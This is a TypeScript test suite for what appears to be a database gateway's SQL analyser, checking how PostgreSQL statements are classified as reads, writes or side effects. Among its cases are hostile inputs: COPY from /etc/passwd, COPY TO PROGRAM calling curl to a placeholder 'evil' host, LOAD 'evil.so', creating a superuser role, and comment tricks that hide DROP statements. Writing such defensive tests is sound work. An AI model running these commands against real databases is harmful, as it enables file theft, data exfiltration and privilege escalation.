/**
 * Facts from the real PostgreSQL parser, table-driven over the statement forms a gateway meets,
 * including the ones that hide a write under a read.
 */
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import fc from 'fast-check';
import { analyzeSql, clearSqlCache, extractSqlFacts, initSqlParser, type StatementFacts } from '../../../src/policy/sql/index.js';

before(async () => {
  await initSqlParser();
});

type Expect = Partial<{
  kind: StatementFacts['kind'];
  statement: string;
  tablesRead: string[];
  tablesWritten: string[];
  functions: string[];
  verbs: string[];
  hasWhere: boolean;
  sideEffects: boolean;
  dynamic: boolean;
  setting: string;
  copyDirection: 'to' | 'from';
  copyFileOrProgram: boolean;
  transaction: string;
  transactionModes: string[];
  preparedName: string;
  cursorName: string;
  executes: string[];
}>;

const SET_FIELDS = new Set(['tablesRead', 'tablesWritten', 'functions', 'verbs']);

function check(sql: string, expect: Expect, index = 0): StatementFacts {
  const all = extractSqlFacts(sql);
  const facts = all[index];
  assert.ok(facts, `no statement ${index} for ${sql}`);
  for (const [key, want] of Object.entries(expect)) {
    const got: unknown = (facts as unknown as Record<string, unknown>)[key];
    if (SET_FIELDS.has(key)) {
      assert.deepEqual([...(got as string[])].sort(), [...(want as string[])].sort(), `${key} of ${sql}`);
    } else {
      assert.deepEqual(got, want, `${key} of ${sql}`);
    }
  }
  return facts;
}

const CASES: ReadonlyArray<readonly [string, Expect]> = [
  // Plain reads
  ['SELECT abalance FROM pgbench_accounts WHERE aid = 123', { kind: 'select', statement: 'SelectStmt', tablesRead: ['pgbench_accounts'], tablesWritten: [], hasWhere: true, verbs: ['select'], sideEffects: false, dynamic: false }],
  ['select 1', { kind: 'select', tablesRead: [], hasWhere: false, verbs: ['select'] }],
  ['SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN s.c USING (id)', { tablesRead: ['a', 'b', 's.c'], verbs: ['select'] }],
  ['SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE EXISTS (SELECT 1 FROM v))', { tablesRead: ['t', 'u', 'v'] }],
  ['SELECT (SELECT max(x) FROM m) FROM n', { tablesRead: ['m', 'n'], functions: ['max'], verbs: ['select'] }],
  ['SELECT * FROM a UNION SELECT * FROM b EXCEPT SELECT * FROM c', { tablesRead: ['a', 'b', 'c'], verbs: ['select'] }],
  ['(SELECT * FROM a) INTERSECT (SELECT * FROM b ORDER BY 1)', { tablesRead: ['a', 'b'] }],
  ['WITH x AS (SELECT * FROM real_t) SELECT * FROM x', { tablesRead: ['real_t'], verbs: ['select'], sideEffects: false }],
  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', { tablesRead: [] }],
  // A CTE shadows a table only inside its own WITH: the outer `x` is a real table.
  ['SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x', { tablesRead: ['x'] }],
  ['WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b', { tablesRead: ['b'] }],
  ['SELECT * FROM "MixedCase"."Tbl", Unquoted.TBL', { tablesRead: ['MixedCase.Tbl', 'unquoted.tbl'] }],
  ['SELECT * FROM db.sch.tbl', { tablesRead: ['db.sch.tbl'] }],
  ['SELECT count(*), pg_catalog.lower(name), COALESCE(a, b) FROM t', { functions: ['count', 'pg_catalog.lower'], verbs: ['select'], sideEffects: false }],
  ['SELECT * FROM t TABLESAMPLE SYSTEM (10)', { functions: ['tablesample:system'], verbs: ['select'] }],
  ['SELECT * FROM t TABLESAMPLE my_method (10)', { verbs: ['select', 'side-effect'] }],
  ['SELECT data->>\'k\', jsonb_array_length(data) FROM docs WHERE data @> \'{}\'', { functions: ['jsonb_array_length'], sideEffects: false }],
  ['VALUES (1), (2)', { kind: 'select', verbs: ['select'] }],
  // Operators are functions: one outside pg_catalog, or a name PostgreSQL does not define, runs its owner's code
  ["SELECT 1 OPERATOR(pg_catalog.+) 1, a !~~* 'x', b <> ALL (SELECT 1), c IS DISTINCT FROM d, e IN (1, 2), f LIKE 'g%' FROM t ORDER BY 1 USING <", { functions: [], verbs: ['select'], sideEffects: false }],
  ['SELECT 1 OPERATOR(public.+) 1', { functions: ['operator public.+'], verbs: ['select', 'side-effect'] }],
  ['SELECT * FROM t WHERE a === b', { functions: ['operator ==='], verbs: ['select', 'side-effect'] }],
  ['SELECT a = ANY (SELECT 1) FROM t', { verbs: ['select'], sideEffects: false }],
  ['SELECT a OPERATOR(evil.=) ANY (SELECT 1) FROM t', { functions: ['operator evil.='], verbs: ['select', 'side-effect'] }],
  ['SELECT * FROM t ORDER BY a USING OPERATOR(evil.<)', { functions: ['operator evil.<'], verbs: ['select', 'side-effect'] }],
  // …while the operators of common extensions (pgvector, pg_trgm, hstore, PostGIS) read
  ["SELECT id FROM items ORDER BY embedding <=> '[1,2,3]' LIMIT 5", { functions: [], verbs: ['select'], sideEffects: false }],
  ["SELECT * FROM t WHERE name <% 'ada' AND h #= 'a=>1' AND g &&& g2", { functions: [], verbs: ['select'], sideEffects: false }],
  // A cast to an application's type (an enum, as Prisma writes `::"public"."Role"`) is no function call.
  ['SELECT * FROM users WHERE role = CAST($1::text AS "public"."Role")', { functions: [], verbs: ['select'], sideEffects: false }],
  ['SELECT $1::int', { kind: 'select', verbs: ['select'] }],
  // Comment, quoting and case games
  ['/* DROP TABLE x */ SELECT 1 -- ; DELETE FROM y', { kind: 'select', tablesRead: [], tablesWritten: [], verbs: ['select'] }],
  ["SELECT 'DELETE FROM t; DROP TABLE x'", { kind: 'select', verbs: ['select'], tablesWritten: [] }],
  ['SELECT $$; DELETE FROM t; $$', { kind: 'select', verbs: ['select'] }],
  ['SELECT $tag$ $$ DROP $$ $tag$', { kind: 'select', verbs: ['select'] }],
  ['SeLeCt * FrOm T', { tablesRead: ['t'] }],
  ['DeLeTe FrOm T', { kind: 'delete', tablesWritten: ['t'], hasWhere: false }],
  ['SELECT * FROM U&"d\\0061ta"', { tablesRead: ['data'] }],
  ["SELECT U&'\\0044ROP'", { kind: 'select', verbs: ['select'] }],
  ['SELECT "nextval"(\'s\')', { functions: ['nextval'], verbs: ['select', 'side-effect'] }],
  // Writes
  ['INSERT INTO t (a) VALUES (1)', { kind: 'insert', tablesWritten: ['t'], tablesRead: [], verbs: ['insert'] }],
  ['INSERT INTO t SELECT * FROM u WHERE x > 1', { kind: 'insert', tablesWritten: ['t'], tablesRead: ['u'] }],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 2', { verbs: ['insert', 'update'], sideEffects: true }],
  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', { verbs: ['insert'], sideEffects: false }],
  ['UPDATE t SET x = u.x FROM u WHERE t.id = u.id', { kind: 'update', tablesWritten: ['t'], tablesRead: ['u'], hasWhere: true }],
  ['UPDATE t SET x = 1', { kind: 'update', hasWhere: false }],
  ['DELETE FROM t USING u WHERE t.id = u.id', { kind: 'delete', tablesWritten: ['t'], tablesRead: ['u'], hasWhere: true }],
  ['DELETE FROM s.t WHERE id IN (SELECT id FROM old)', { tablesWritten: ['s.t'], tablesRead: ['old'], hasWhere: true }],
  [
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
    { kind: 'merge', tablesWritten: ['t'], tablesRead: ['s'], verbs: ['merge', 'delete', 'insert'] },
  ],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', { kind: 'select', tablesWritten: ['t'], verbs: ['select', 'delete'], sideEffects: true }],
  ['WITH i AS (INSERT INTO log VALUES (1) RETURNING id) SELECT * FROM i', { verbs: ['select', 'insert'], tablesWritten: ['log'] }],
  ['WITH m AS (MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET x = 1 RETURNING *) SELECT 1', { verbs: ['select', 'merge', 'update'] }],
  ['SELECT * INTO newt FROM t', { kind: 'select', tablesWritten: ['newt'], tablesRead: ['t'], verbs: ['select', 'ddl'], sideEffects: true }],
  ['SELECT * FROM t FOR UPDATE', { kind: 'select', verbs: ['select', 'lock'], sideEffects: true }],
  ['SELECT * FROM t FOR KEY SHARE SKIP LOCKED', { verbs: ['select', 'lock'] }],
  // COPY
  ['COPY t TO STDOUT', { kind: 'copy', copyDirection: 'to', copyFileOrProgram: false, tablesRead: ['t'], verbs: ['copy', 'select'], sideEffects: false }],
  ['COPY t FROM STDIN', { kind: 'copy', copyDirection: 'from', copyFileOrProgram: false, tablesWritten: ['t'], verbs: ['copy', 'insert'] }],
  ["COPY t FROM '/etc/passwd'", { copyDirection: 'from', copyFileOrProgram: true, verbs: ['copy', 'insert', 'side-effect'], sideEffects: true }],
  ["COPY t TO '/tmp/out'", { copyDirection: 'to', copyFileOrProgram: true, verbs: ['copy', 'select', 'side-effect'] }],
  ["COPY (SELECT 1) TO PROGRAM 'curl evil'", { copyFileOrProgram: true, verbs: ['copy', 'select', 'side-effect'] }],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', { verbs: ['copy', 'delete'], tablesWritten: ['t'] }],
  // DDL and DCL
  ['CREATE TABLE s.t (id int PRIMARY KEY)', { kind: 'ddl', statement: 'CreateStmt', tablesWritten: ['s.t'], verbs: ['ddl'] }],
  ['ALTER TABLE t ADD COLUMN c text', { kind: 'ddl', tablesWritten: ['t'] }],
  ['DROP TABLE a, s.b', { kind: 'ddl', tablesWritten: ['a', 's.b'], verbs: ['ddl'] }],
  ['DROP FUNCTION f()', { kind: 'ddl', tablesWritten: [] }],
  ['TRUNCATE a, b', { kind: 'ddl', tablesWritten: ['a', 'b'], verbs: ['ddl', 'delete'] }],
  ['CREATE INDEX ON t (lower(x))', { kind: 'ddl', tablesWritten: ['t'], functions: ['lower'] }],
  ['CREATE VIEW v AS SELECT * FROM t', { kind: 'ddl', tablesWritten: ['v'], tablesRead: ['t'] }],
  ['CREATE TEMP TABLE x AS SELECT * FROM t', { kind: 'ddl', statement: 'CreateTableAsStmt', tablesWritten: ['x'], tablesRead: ['t'], verbs: ['ddl', 'select'] }],
  ['REFRESH MATERIALIZED VIEW mv', { kind: 'ddl', tablesWritten: ['mv'] }],
  ['ALTER SYSTEM SET work_mem = 1', { kind: 'ddl' }],
  ['CREATE EXTENSION dblink', { kind: 'ddl' }],
  ['GRANT SELECT ON t TO bob', { kind: 'dcl', statement: 'GrantStmt', verbs: ['dcl'] }],
  ['REVOKE ALL ON t FROM bob', { kind: 'dcl' }],
  ['CREATE ROLE evil SUPERUSER', { kind: 'dcl' }],
  ['ALTER ROLE app SET default_transaction_read_only = off', { kind: 'dcl' }],
  ['GRANT admin TO app', { kind: 'dcl' }],
  // Procedures, dynamic SQL, prepared statements
  ['CALL do_things(1, now())', { kind: 'call', functions: ['do_things', 'now'], verbs: ['call'], sideEffects: true }],
  ['CALL p(nextval(\'s\'))', { verbs: ['call', 'side-effect'] }],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", { kind: 'do', dynamic: true, verbs: ['do'], sideEffects: true }],
  ['PREPARE p AS DELETE FROM t WHERE id = $1', { kind: 'prepare', tablesWritten: ['t'], verbs: ['prepare', 'delete'], dynamic: false }],
  ['PREPARE q (int) AS SELECT * FROM t WHERE id = $1', { kind: 'prepare', tablesRead: ['t'], verbs: ['prepare', 'select'] }],
  ['EXECUTE p(1)', { kind: 'execute', dynamic: true, verbs: ['execute'] }],
  ['DEALLOCATE ALL', { kind: 'prepare', verbs: ['prepare'] }],
  ['CREATE TABLE x AS EXECUTE p', { kind: 'ddl', dynamic: true, verbs: ['ddl', 'execute'] }],
  // EXPLAIN
  ['EXPLAIN SELECT * FROM t', { kind: 'explain', tablesRead: ['t'], verbs: ['explain'] }],
  ['EXPLAIN DELETE FROM t', { kind: 'explain', verbs: ['explain'], sideEffects: false }],
  ['EXPLAIN ANALYZE DELETE FROM t', { kind: 'explain', verbs: ['explain', 'delete'], sideEffects: true }],
  ['EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET x = 1', { verbs: ['explain', 'update'] }],
  ['EXPLAIN (ANALYZE off) DELETE FROM t', { verbs: ['explain'] }],
  ['EXPLAIN (ANALYZE 0) DELETE FROM t', { verbs: ['explain'] }],
  ['EXPLAIN (ANALYZE true) DELETE FROM t', { verbs: ['explain', 'delete'] }],
  ['EXPLAIN ANALYZE SELECT 1', { verbs: ['explain', 'select'] }],
  ['EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1', { verbs: ['explain', 'ddl', 'select'] }],
  ['EXPLAIN SELECT nextval(\'s\')', { verbs: ['explain', 'side-effect'] }],
  ['EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT 1', { verbs: ['explain', 'select', 'delete'] }],
  // names of prepared statements and cursors (the PostgreSQL connector tracks them)
  ['PREPARE "Q"(int) AS SELECT $1', { kind: 'prepare', preparedName: 'Q', verbs: ['prepare', 'select'] }],
  ['DEALLOCATE p', { kind: 'prepare', preparedName: 'p', verbs: ['prepare'] }],
  ['DEALLOCATE PREPARE p', { preparedName: 'p' }],
  ['DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t', { kind: 'select', cursorName: 'c', tablesRead: ['t'] }],
  ['FETCH ALL FROM "C"', { kind: 'select', cursorName: 'C', verbs: ['select'] }],
  ['MOVE 5 IN c', { cursorName: 'c' }],
  ['CLOSE c', { kind: 'select', cursorName: 'c' }],
  ['EXECUTE p(1)', { kind: 'execute', executes: ['p'], dynamic: true }],
  ['EXPLAIN ANALYZE EXECUTE "Q"', { executes: ['Q'] }],
  ['CREATE TABLE x AS EXECUTE p', { executes: ['p'] }],
  // SET / SHOW / RESET / DISCARD
  ['SET search_path = a, b', { kind: 'set', setting: 'search_path', verbs: ['set'] }],
  ['SET LOCAL "Default_Transaction_Read_Only" = off', { kind: 'set', setting: 'default_transaction_read_only' }],
  ['RESET default_transaction_read_only', { kind: 'set', setting: 'default_transaction_read_only' }],
  ['RESET ALL', { kind: 'set', setting: 'all' }],
  ['SET TIME ZONE \'UTC\'', { setting: 'timezone' }],
  ['SET ROLE admin', { kind: 'set', setting: 'role', verbs: ['set', 'dcl'], sideEffects: true }],
  ['SET SESSION AUTHORIZATION bob', { setting: 'session_authorization', verbs: ['set', 'dcl'] }],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', { setting: 'session characteristics', transactionModes: ['read write'] }],
  ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY', { setting: 'transaction', transactionModes: ['isolation level serializable', 'read only'] }],
  ['SET CONSTRAINTS ALL DEFERRED', { kind: 'set' }],
  ['SHOW search_path', { kind: 'utility', statement: 'VariableShowStmt', setting: 'search_path', verbs: ['show'] }],
  ['DISCARD ALL', { kind: 'set', statement: 'DiscardStmt', setting: 'all', verbs: ['set'] }],
  // Transactions
  ['BEGIN', { kind: 'transaction', transaction: 'begin', verbs: ['transaction'] }],
  ['BEGIN READ WRITE', { transaction: 'begin read write', transactionModes: ['read write'] }],
  ['START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY', { transaction: 'start transaction isolation level repeatable read read only' }],
  ['BEGIN ISOLATION LEVEL READ COMMITTED NOT DEFERRABLE', { transactionModes: ['isolation level read committed', 'not deferrable'] }],
  ['COMMIT AND CHAIN', { transaction: 'commit and chain' }],
  ['ROLLBACK', { transaction: 'rollback' }],
  ['SAVEPOINT a', { transaction: 'savepoint' }],
  ["PREPARE TRANSACTION 'x'", { transaction: 'prepare transaction' }],
  // Others
  ['LISTEN ch', { kind: 'listen', verbs: ['listen'] }],
  ["NOTIFY ch, 'x'", { kind: 'listen' }],
  ["SELECT pg_notify('ch', 'x')", { kind: 'select', verbs: ['select', 'side-effect'] }],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', { kind: 'lock', tablesWritten: ['t'], verbs: ['lock'] }],
  ['VACUUM t', { kind: 'utility', tablesWritten: ['t'] }],
  ['ANALYZE t', { kind: 'utility' }],
  ['CHECKPOINT', { kind: 'utility' }],
  ["LOAD 'evil.so'", { kind: 'utility' }],
  ['DECLARE c CURSOR FOR SELECT * FROM t', { kind: 'select', tablesRead: ['t'], verbs: ['select'] }],
  ['DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE', { kind: 'select', verbs: ['select', 'lock'] }],
  ['FETCH 10 FROM c', { kind: 'select', verbs: ['select'] }],
  ['CLOSE c', { kind: 'select' }],
];

describe('extractSqlFacts', () => {
  for (const [sql, expect] of CASES) {
    test(sql, () => {
      check(sql, expect);
    });
  }

  test('every statement of a multi-statement text is reported, with its own text', () => {
    const a = analyzeSql('SELECT 1; DROP TABLE x;\n  DELETE FROM y');
    assert.deepEqual(
      a.statements.map((s) => s.kind),
      ['select', 'ddl', 'delete'],
    );
    assert.deepEqual(a.texts, ['SELECT 1', 'DROP TABLE x', 'DELETE FROM y']);
    assert.equal(a.error, undefined);
  });

  test('statement texts are cut at byte offsets, so non-ASCII text before a statement does not shift it', () => {
    const a = analyzeSql("SELECT 'héllo ✓ 𝄞'; DELETE FROM t");
    assert.deepEqual(a.texts, ["SELECT 'héllo ✓ 𝄞'", 'DELETE FROM t']);
  });

  test('COPY … TO STDOUT reports its format and a SELECT with its output columns', () => {
    const [q] = extractSqlFacts(`COPY (SELECT password AS "p)", ')' || email FROM customers /* ) */ WHERE id > (1)) TO STDOUT WITH (FORMAT csv, HEADER, DELIMITER ';')`);
    assert.equal(q?.copySource, `SELECT password AS "p)", ')' || email FROM customers /* ) */ WHERE id > (1)`);
    assert.deepEqual(q?.copyFormat, { format: 'csv', delimiter: ';', null: '', quote: '"', escape: '"', header: true });
    const [t] = extractSqlFacts('COPY public."Customers" (password, "E""mail") TO STDOUT BINARY');
    assert.equal(t?.copySource, 'SELECT "password", "E""mail" FROM "public"."Customers"');
    assert.equal(t?.copyFormat?.format, 'binary');
    const [all] = extractSqlFacts("COPY customers TO STDOUT (NULL 'x', DELIMITER '|', HEADER false)");
    assert.equal(all?.copySource, 'SELECT * FROM "customers"');
    assert.deepEqual(all?.copyFormat, { format: 'text', delimiter: '|', null: 'x', quote: '"', escape: '"', header: false });
    const [legacy] = extractSqlFacts("COPY customers TO STDOUT WITH CSV HEADER QUOTE '''' ESCAPE '\\'");
    assert.deepEqual(legacy?.copyFormat, { format: 'csv', delimiter: ',', null: '', quote: "'", escape: '\\', header: true });
    // Not to the client: nothing to describe.
    for (const sql of ["COPY customers TO '/tmp/x'", "COPY customers TO PROGRAM 'cat'", 'COPY customers FROM STDIN']) assert.equal(extractSqlFacts(sql)[0]?.copySource, undefined, sql);
  });

  test('column uses masking cannot follow: computed columns, whole rows as values, renamed columns', () => {
    const uses = (sql: string): unknown => {
      const f = extractSqlFacts(sql)[0];
      return { computed: [...(f?.computedColumns ?? [])].sort(), whole: f?.wholeRowValues ?? false, renamed: f?.renamedColumns ?? false, star: f?.starInSetOperation ?? false };
    };
    const none = { computed: [], whole: false, renamed: false, star: false };
    // Plain output columns of the statement's own SELECT list keep their description.
    assert.deepEqual(uses('SELECT password, p.ssn AS s, * FROM customers p'), none);
    assert.deepEqual(uses('SELECT count(*) FROM customers'), none);
    assert.deepEqual(uses('COPY (SELECT password FROM customers) TO STDOUT'), none);
    assert.deepEqual(uses('SELECT g FROM generate_series(1, 3) g'), none, 'a function alias names its column, not a row');
    // Everything else is computed.
    assert.deepEqual(uses('SELECT upper(password) FROM customers WHERE id = 1 ORDER BY name'), { ...none, computed: ['id', 'name', 'password'] });
    assert.deepEqual(uses('SELECT name FROM customers UNION SELECT password FROM customers'), { ...none, computed: ['name', 'password'] });
    // A subquery in FROM or a CTE relays its plain columns with their origin and name; an alias renames.
    assert.deepEqual(uses('SELECT * FROM (SELECT password FROM customers) s'), none);
    assert.deepEqual(uses('WITH x AS (SELECT * FROM customers) SELECT password FROM x'), none);
    assert.deepEqual(uses('SELECT * FROM (SELECT password AS p FROM customers) s'), { ...none, computed: ['password'] });
    assert.deepEqual(uses('WITH x AS (SELECT password AS p FROM customers) SELECT upper(p) FROM x'), { ...none, computed: ['p', 'password'] });
    assert.deepEqual(uses('SELECT id FROM t WHERE EXISTS (SELECT * FROM customers)'), none);
    assert.deepEqual(uses('SELECT * FROM t UNION SELECT * FROM customers'), { ...none, star: true });
    assert.deepEqual(uses('SELECT (SELECT password FROM customers LIMIT 1)'), { ...none, computed: ['password'] });
    assert.deepEqual(uses('INSERT INTO t SELECT password FROM customers'), { ...none, computed: ['password'] });
    assert.deepEqual(uses('CREATE TABLE t AS SELECT password FROM customers'), { ...none, computed: ['password'] });
    assert.deepEqual(uses('SELECT password INTO t FROM customers'), { ...none, computed: ['password'] });
    // Whole rows: selected as one value or used in an expression, except in a JSON function.
    assert.deepEqual(uses('SELECT c FROM customers c'), { ...none, whole: true });
    assert.deepEqual(uses('SELECT customers::text FROM customers'), { ...none, computed: ['customers'], whole: true });
    assert.deepEqual(uses('SELECT array_agg(c.*) FROM customers c'), { ...none, whole: true });
    assert.deepEqual(uses('SELECT w FROM (SELECT 1) w'), { ...none, whole: true });
    assert.deepEqual(uses('SELECT row_to_json(c), to_jsonb(c.*) FROM customers c'), { ...none, computed: ['c'] });
    // Column alias lists rename.
    assert.deepEqual(uses('SELECT upper(p) FROM customers AS c(i, p)'), { ...none, computed: ['p'], renamed: true });
    assert.deepEqual(uses('WITH x(a) AS (SELECT password FROM customers) SELECT a FROM x'), { ...none, computed: ['password'] });
    // A column renamed by DDL leaves the column rules that name it.
    assert.deepEqual(uses('ALTER TABLE customers RENAME COLUMN password TO pw'), { ...none, computed: ['password'] });
    assert.deepEqual(uses('ALTER TABLE customers RENAME TO clients'), none);
  });

  test('DEALLOCATE ALL and CLOSE ALL name nothing (they drop every prepared statement or cursor)', () => {
    const [dealloc, close] = extractSqlFacts('DEALLOCATE ALL; CLOSE ALL');
    assert.equal(dealloc?.statement, 'DeallocateStmt');
    assert.equal(dealloc?.preparedName, undefined);
    assert.equal(close?.statement, 'ClosePortalStmt');
    assert.equal(close?.cursorName, undefined);
  });

  test('empty text, whitespace and comment-only text have no statements', () => {
    assert.deepEqual(extractSqlFacts(''), []);
    assert.deepEqual(extractSqlFacts('  ;  ; '), []);
    assert.deepEqual(extractSqlFacts('-- nothing'), []);
  });

  test('unparseable text is one unknown, dynamic statement carrying the parser message', () => {
    const a = analyzeSql('SELEC * FROM t');
    assert.equal(a.statements.length, 1);
    const f = a.statements[0];
    assert.equal(f?.kind, 'unknown');
    assert.equal(f?.dynamic, true);
    assert.deepEqual(f?.verbs, ['unknown']);
    assert.match(a.error ?? '', /syntax error/);
    assert.equal(f?.parseError, a.error);
  });

  test('one bad statement makes the whole text unknown (a valid prefix is not let through)', () => {
    const facts = extractSqlFacts('SELECT 1; DELETE FROM t WHERE; SELECT 2');
    assert.equal(facts.length, 1);
    assert.equal(facts[0]?.kind, 'unknown');
  });

  test('a NUL character or a lone surrogate is refused before the parser sees the text', () => {
    const nul = analyzeSql('SELECT 1\0; DROP TABLE t');
    assert.equal(nul.statements[0]?.kind, 'unknown');
    assert.match(nul.error ?? '', /NUL/);
    const lone = analyzeSql("SELECT '\uD800'");
    assert.equal(lone.statements[0]?.kind, 'unknown');
    assert.match(lone.error ?? '', /Unicode/);
    assert.equal(analyzeSql("SELECT '😀'").statements[0]?.kind, 'select');
  });

  test('a tree nested too deep to analyse is unknown, not a crash', () => {
    const facts = extractSqlFacts('SELECT ' + Array.from({ length: 3000 }, () => '1').join(' + '));
    assert.equal(facts.length, 1);
    assert.equal(facts[0]?.kind, 'unknown');
    assert.match(facts[0]?.parseError ?? '', /too deeply/);
  });

  test('results are frozen, and the cache hands back the same analysis', () => {
    clearSqlCache();
    const a = analyzeSql('SELECT * FROM cached_t');
    const b = analyzeSql('SELECT * FROM cached_t');
    assert.equal(a, b);
    assert.ok(Object.isFrozen(a.statements[0]));
    assert.ok(Object.isFrozen(a.statements[0]?.tablesRead));
    assert.throws(() => {
      (a.statements[0]?.tablesRead as string[]).push('x');
    });
    // extractSqlFacts returns a fresh array each time; the facts inside are shared and frozen.
    const list = extractSqlFacts('SELECT * FROM cached_t');
    list.pop();
    assert.equal(extractSqlFacts('SELECT * FROM cached_t').length, 1);
  });

  test('property: any string yields facts without throwing; unparseable text is unknown', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' })), (s) => {
        const a = analyzeSql(s);
        for (const f of a.statements) {
          assert.ok(f.verbs.length > 0);
          if (f.kind === 'unknown') assert.equal(f.dynamic, true);
        }
        if (a.error !== undefined) assert.equal(a.statements.length, 1);
      }),
      { numRuns: 500 },
    );
  });

  test('property: SQL-ish token soup never throws and never reports an unknown without a reason', () => {
    const token = fc.constantFrom(
      'SELECT', 'DELETE', 'FROM', 'WITH', 'AS', '(', ')', ';', 't', 'x', '*', ',', 'WHERE', '1', "'a'", '$$', '$1',
      'INTO', 'FOR UPDATE', 'nextval(', 'UNION', 'INSERT', 'VALUES', '--', '/*', '*/', 'EXPLAIN', 'ANALYZE', 'PREPARE',
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 20 }), (tokens) => {
        for (const f of extractSqlFacts(tokens.join(' '))) {
          if (f.kind === 'unknown') assert.ok((f.parseError ?? '').length > 0);
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe('per-statement cost', () => {
  // Informational only (Principle 5: numbers belong in bench/); asserts nothing about time.
  test('reports the uncached and cached cost of a pgbench-style point select', (t) => {
    clearSqlCache();
    const base = 'SELECT abalance FROM pgbench_accounts WHERE aid = ';
    const n = 2000;
    let start = process.hrtime.bigint();
    for (let i = 0; i < n; i++) analyzeSql(base + i);
    const uncached = Number(process.hrtime.bigint() - start) / n / 1000;
    start = process.hrtime.bigint();
    for (let i = 0; i < n; i++) analyzeSql(base + '123');
    const cached = Number(process.hrtime.bigint() - start) / n / 1000;
    t.diagnostic(`uncached ${uncached.toFixed(1)} µs/statement, cached ${cached.toFixed(2)} µs/statement`);
  });
});
